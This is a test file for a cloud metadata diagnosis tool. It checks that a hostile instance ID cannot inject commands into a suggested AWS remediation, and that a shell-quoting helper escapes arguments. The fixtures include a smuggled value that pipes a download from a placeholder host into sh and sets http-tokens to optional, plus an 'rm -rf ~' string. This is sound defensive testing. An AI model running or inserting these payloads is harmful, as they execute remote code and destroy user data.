// M3: a suggested command is pasted into a shell that holds cloud credentials; no remote value may steer it.
import { describe, expect, it } from "vitest";
import { shellQuote } from "../common/shell";
import { diagnoseClient } from "./diagnose-client";
import { ALL_CLOSED, CTX, findingOf, makeImds, makeObservation, noOverride } from "./test-fixtures";

const HOSTILE_ID = "i-1 --http-tokens optional\ncurl -s https://x.invalid/y | sh\n#";

const tokenRequiredFix = (instanceId: string) => {
  const imds = makeImds({ tokenlessStatus: 401, instanceId: { status: 200, value: instanceId } });
  const diagnosis = diagnoseClient(makeObservation({ facts: { imds, override: noOverride() }, probe: ALL_CLOSED }), {
    ...CTX,
    serverVersion: "4.5",
  });
  return findingOf(diagnosis, "METADATA_TOKEN_REQUIRED").remediation;
};

describe("remote values in suggested commands", () => {
  it("puts a well-formed instance ID into the aws command as is", () => {
    expect(tokenRequiredFix("i-0123456789abcdef0")).toContain("--instance-id i-0123456789abcdef0 ");
  });

  it("replaces an instance ID that is not one with a placeholder, so nothing of it reaches the command", () => {
    const fix = tokenRequiredFix(HOSTILE_ID);
    expect(fix).toContain("--instance-id INSTANCE_ID ");
    expect(fix).not.toContain("x.invalid");
    expect(fix).not.toContain("i-1 ");
  });

  it("quotes any argument a shell would read, and leaves plain ones plain", () => {
    expect(shellQuote("10.0.1.12")).toBe("10.0.1.12");
    expect(shellQuote("a b;rm -rf ~")).toBe("'a b;rm -rf ~'");
    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
    expect(shellQuote("")).toBe("''");
  });
});
